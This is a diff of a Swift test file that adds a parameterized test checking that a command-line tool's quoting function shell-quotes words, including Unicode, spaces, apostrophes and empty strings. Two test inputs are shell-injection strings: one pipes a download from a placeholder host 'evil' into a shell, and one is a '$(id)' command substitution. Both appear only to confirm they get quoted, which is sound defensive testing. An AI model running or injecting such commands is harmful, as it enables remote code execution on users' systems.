@@ -30,6 +30,14 @@ import TextCore
         #expect(line == "sample-cli \(part)get 5")
     }
 
+    @Test(arguments: [
+        ("민수", "민수"), ("é", "é"), ("Kim Minsu", "'Kim Minsu'"), ("x;curl evil|sh", "'x;curl evil|sh'"),
+        ("a\u{A0}b", "'a\u{A0}b'"), ("$(id)", "'$(id)'"), ("it's", #"'it'\''s'"#), ("", "''"), ("~", "'~'"),
+    ])
+    func `A word is quoted unless a shell leaves it as it is`(text: String, word: String) {
+        #expect(Invocation.quoted(text) == word)
+    }
+
     @Test func `Another place takes the server's place, and the profile stays`() throws {
         let call = try invocation(["doctor", "--server", "http://a.test", "--profile", "x"])
         #expect(
